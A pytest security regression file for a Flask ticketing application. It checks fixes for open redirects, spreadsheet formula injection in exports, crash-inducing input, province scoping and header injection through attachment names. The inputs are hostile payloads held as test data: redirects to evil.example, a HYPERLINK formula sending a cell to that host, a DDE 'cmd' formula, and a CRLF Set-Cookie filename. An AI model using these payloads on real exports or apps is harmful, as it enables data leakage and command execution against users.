"""Security review: each test shows one bug found in review (it failed before the fix)."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from flask import Flask, url_for
from openpyxl import load_workbook
from sqlalchemy import select
from werkzeug.datastructures import FileStorage

from tests.factories import login, make_school
from ticketing.extensions import db
from ticketing.models import Attachment, DayOff, Province, SchoolAssignment, Ticket
from ticketing.services import attachments as attachment_service
from ticketing.services import tickets as ticket_service
from ticketing.services import users as user_service

HUGE = "99999999999999999999999"


# --- Open redirects ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target", ["/\\evil.example", "/\\/evil.example", "//evil.example", "/\t/evil.example"]
)
def test_login_next_never_leaves_the_site(client: Any, world: Any, target: str) -> None:
    """Browsers read a backslash as a slash: '/\\evil.example' is another host."""
    response = client.post(
        "/login",
        query_string={"next": target},
        data={"email": world.officer_a.email, "password": "Test-Password-2026"},
    )
    assert response.status_code == 302
    location = response.headers["Location"]
    assert "evil" not in location, location


def test_language_switch_never_leaves_the_site(client: Any) -> None:
    response = client.post("/language/en", data={"next": "/\\evil.example/x"})
    assert response.status_code == 302
    assert "evil" not in response.headers["Location"]
    # An ordinary path on the site is still followed.
    response = client.post("/language/id", data={"next": "/help?x=1"})
    assert response.headers["Location"].endswith("/help?x=1")


# --- Spreadsheet formula injection in exports --------------------------------------------------


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _formula_world(world: Any) -> None:
    world.school_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.raise_ticket(title=FORMULA_TITLE)
    db.session.commit()


def test_ticket_export_csv_neutralises_formulas(client: Any, world: Any) -> None:
    _formula_world(world)
    login(client, world.officer_a)
    response = client.get("/dashboard/export/tickets.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'" + FORMULA_TITLE in cells  # the text is kept, only made inert


def test_ticket_export_xlsx_has_no_formulas(client: Any, world: Any) -> None:
    _formula_world(world)
    login(client, world.officer_a)
    response = client.get("/dashboard/export/tickets.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert sheet is not None
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds  # openpyxl writes a string starting with "=" as a formula
    assert "'" + FORMULA_TITLE in values


# --- Bad input gives 4xx, never 500 ----------------------------------------------------------

ODD_ARGS: list[dict[str, str]] = [
    {"page": HUGE, "before": HUGE, "category": HUGE, "school": HUGE, "cohort": HUGE},
    {"page": "-3", "before": "-5", "category": "x", "school": "x", "cohort": "-1"},
    {"from": "9999-12-31", "to": "9999-12-31", "created_from": "9999-12-31",
     "created_to": "9999-12-31", "verified_from": "9999-12-31", "verified_to": "9999-12-31"},
    {"from": "0001-01-01", "to": "0001-01-01", "created_from": "0001-01-01",
     "created_to": "0001-01-01", "verified_from": "0001-01-01", "verified_to": "0001-01-01"},
    {"from": "2026-13-45", "to": "x", "state": "bogus", "level": "X", "sla": "x",
     "resolved_by": "x", "sort": "__class__", "dir": "up", "open": "2", "mine": "x"},
    {"district": "\x00'", "province": "\x00", "q": "\x00%_\\", "next": "//x"},
]  # fmt: skip
PATH_VALUES = {"code": "35", "fmt": "csv", "token": "x", "key": "x", "event": "assign"}
FUZZ_USERS = ("facilitator_a", "officer_a", "admin", "national")


def _get_routes(app: Flask, ticket_id: int) -> list[str]:
    urls = []
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            if "GET" not in (rule.methods or ()) or rule.endpoint.endswith("static"):
                continue
            values: dict[str, Any] = {a: PATH_VALUES.get(a, ticket_id) for a in rule.arguments}
            if rule.endpoint in ("dashboard.district", "dashboard.export_district"):
                values["code"] = "35.01"
            urls.append(url_for(rule.endpoint, **values))
    return urls


def test_odd_query_parameters_never_give_500(app: Flask, client: Any, world: Any) -> None:
    app.config["PROPAGATE_EXCEPTIONS"] = False
    ticket = world.raise_ticket()
    db.session.get(Province, "35").public_dashboard = True
    db.session.commit()
    urls = _get_routes(app, ticket.id)
    failures = []
    for who in (None, *FUZZ_USERS):
        client.post("/logout")
        if who is not None:
            login(client, getattr(world, who))
        for url in urls:
            for args in ODD_ARGS:
                status = client.get(url, query_string=args).status_code
                if status >= 500:
                    failures.append((who, url, args, status))
    assert failures == []


@pytest.mark.parametrize(
    "method,path",
    [
        ("GET", f"/tickets/{HUGE}"),
        ("GET", f"/tickets/{HUGE}/assign"),
        ("GET", f"/attachments/{HUGE}"),
        ("GET", f"/admin/users/{HUGE}"),
        ("GET", f"/admin/schools/{HUGE}"),
        ("GET", f"/admin/categories/{HUGE}"),
        ("POST", f"/notifications/{HUGE}/read"),
        ("POST", f"/sla-settings/days-off/{HUGE}/delete"),
        ("POST", f"/tickets/{HUGE}/comments"),
    ],
)
def test_huge_ids_in_paths_are_404(
    app: Flask, client: Any, world: Any, method: str, path: str
) -> None:
    app.config["PROPAGATE_EXCEPTIONS"] = False
    login(client, world.national)
    assert client.open(path, method=method).status_code == 404


# --- Scope ------------------------------------------------------------------------------------


def test_list_filter_does_not_show_schools_of_another_province(client: Any, world: Any) -> None:
    """?district= only narrows; it must not list the schools of a district out of scope."""
    hidden = make_school("20399999", "33.01")
    hidden.name = "Sekolah Rahasia Provinsi Lain"
    db.session.commit()
    for user in (world.province, world.admin):
        client.post("/logout")
        login(client, user)
        response = client.get("/", query_string={"district": "33.01", "state": ""})
        assert response.status_code == 200
        assert "Sekolah Rahasia" not in response.get_data(as_text=True)
    # In scope the same filter still offers the district's schools.
    client.post("/logout")
    login(client, world.province)
    html = client.get("/", query_string={"district": "35.01", "state": ""}).get_data(as_text=True)
    assert world.school_a.name in html


def test_sla_settings_of_another_province_are_404(client: Any, world: Any) -> None:
    """Objects outside an administrator's province answer 404, and refused POSTs change nothing."""
    day = DayOff(province_code="33", day=date(2026, 12, 24), name="Cuti")
    db.session.add(day)
    db.session.commit()
    login(client, world.admin)
    assert client.get("/sla-settings?province=33").status_code == 404
    posted = client.post(
        "/sla-settings?province=33",
        data={"policy-state": "raised", "policy-category_id": "0", "policy-working_days": "9"},
    )
    assert posted.status_code == 404
    assert client.post(f"/sla-settings/days-off/{day.id}/delete").status_code == 404
    db.session.expire_all()
    assert db.session.get(DayOff, day.id) is not None


def test_moving_a_facilitator_drops_schools_outside_the_new_district(world: Any) -> None:
    """A facilitator supports schools of their own district only (check_assignment); a move
    to another district must not leave them raising and reading tickets of the old one."""
    user_service.update_user(
        world.national, world.facilitator_a, name=world.facilitator_a.name,
        role="facilitator", region_code="33.01",
    )  # fmt: skip
    db.session.commit()
    left = db.session.scalars(
        select(SchoolAssignment.school_id).where(
            SchoolAssignment.facilitator_id == world.facilitator_a.id
        )
    ).all()
    assert world.school_a.id not in left
    from ticketing import permissions

    assert not permissions.can_raise_for(world.facilitator_a, world.school_a)


def test_changing_a_facilitator_to_officer_drops_schools(world: Any) -> None:
    user_service.update_user(
        world.admin, world.facilitator_a, name=world.facilitator_a.name,
        role="district_pmo", region_code="35.01",
    )  # fmt: skip
    db.session.commit()
    assert (
        db.session.scalars(
            select(SchoolAssignment).where(
                SchoolAssignment.facilitator_id == world.facilitator_a.id
            )
        ).all()
        == []
    )


# --- Attachments ------------------------------------------------------------------------------


def test_attachment_name_with_control_characters_is_cleaned(client: Any, world: Any) -> None:
    """A name with CR/LF (possible through RFC 2231 filename*) made every download a 500."""
    ticket = world.raise_ticket()
    storage = FileStorage(io.BytesIO(b"%PDF-1.4 test"), filename='bad\r\nSet-Cookie: x=1;"\x00.pdf')
    uploads = attachment_service.read_uploads([storage])
    assert uploads[0].original_name.isprintable()  # no CR, LF, NUL kept for headers
    ticket_service.add_comment(ticket, actor=world.facilitator_a, body="bukti", files=uploads)
    db.session.commit()
    row = db.session.scalars(select(Attachment)).one()
    login(client, world.officer_a)
    response = client.get(f"/attachments/{row.id}")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("inline;")  # a PDF opens in the browser
    assert "\r" not in disposition and "\n" not in disposition
    # A row stored before the fix (name with CR/LF) still downloads.
    row.original_name = "old\r\nname.pdf"
    db.session.commit()
    assert client.get(f"/attachments/{row.id}").status_code == 200


def test_nul_characters_are_400_not_500(app: Flask, client: Any, world: Any) -> None:
    """PostgreSQL text cannot hold NUL: a query or form with one was a 500 there."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    assert client.post("/login", data={"email": "a\x00@x.id", "password": "x"}).status_code == 400
    login(client, world.facilitator_a)
    assert client.get("/", query_string={"q": "a\x00"}).status_code == 400
    assert client.get("/dashboard/province/3\x005").status_code in (400, 404)
    response = client.post(
        "/tickets/new",
        data={"school": world.school_a.id, "category": world.category.id,
              "title": "Judul\x00", "description": "Isi"},
    )  # fmt: skip
    assert response.status_code == 400
    assert db.session.scalars(select(Ticket)).all() == []
